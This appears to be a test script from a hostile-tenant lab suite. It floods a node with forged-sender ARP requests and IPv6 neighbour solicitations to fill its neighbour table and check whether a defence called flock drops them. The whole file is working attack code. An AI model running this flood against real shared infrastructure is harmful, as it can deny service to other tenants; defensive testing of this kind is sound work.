#!/usr/bin/env python3
# A hostile pod's neighbour flood (the hostile-tenant lab suite): COUNT ARP requests and COUNT
# IPv6 neighbour solicitations out of IFNAME, each from a different forged sender, asking for the
# node's gateway addresses (169.254.1.1, fe80::1): requests for a node address make the node
# learn the sender, one neighbour entry each, unless flock drops them. Raw frames (AF_PACKET):
# run it inside the pod's network namespace as root. Prints what it sent.
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp_request(mac: bytes, sender: bytes, target: bytes) -> bytes:
    eth = b'\xff' * 6 + mac + struct.pack('!H', 0x0806)
    arp = struct.pack('!HHBBH', 1, 0x0800, 6, 4, 1) + mac + sender + b'\0' * 6 + target
    return eth + arp


def neighbour_solicitation(mac: bytes, source: bytes, target: bytes) -> bytes:
    group = socket.inet_pton(socket.AF_INET6, 'ff02::1:ff00:0')[:13] + target[13:]
    # ICMPv6 135: reserved, target, source link-layer address option.
    body = struct.pack('!BBHI', 135, 0, 0, 0) + target + struct.pack('!BB', 1, 1) + mac
    pseudo = source + group + struct.pack('!I3xB', len(body), 58)
    body = body[:2] + struct.pack('!H', checksum(pseudo + body)) + body[4:]
    ip6 = struct.pack('!IHBB', 6 << 28, len(body), 58, 255) + source + group
    eth = b'\x33\x33' + group[12:] + mac + struct.pack('!H', 0x86DD)
    return eth + ip6 + body


def main() -> None:
    ifname, count = sys.argv[1], int(sys.argv[2])
    with open(f'/sys/class/net/{ifname}/address') as f:
        mac = bytes.fromhex(f.read().strip().replace(':', ''))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    gw4 = socket.inet_aton('169.254.1.1')
    gw6 = socket.inet_pton(socket.AF_INET6, 'fe80::1')
    for i in range(count):
        s.send(arp_request(mac, struct.pack('!BBH', 10, 201, i), gw4))
        forged6 = socket.inet_pton(socket.AF_INET6, f'fe80::dead:{i:x}')
        s.send(neighbour_solicitation(mac, forged6, gw6))
    print(f'sent {count} ARP requests and {count} neighbour solicitations')


main()
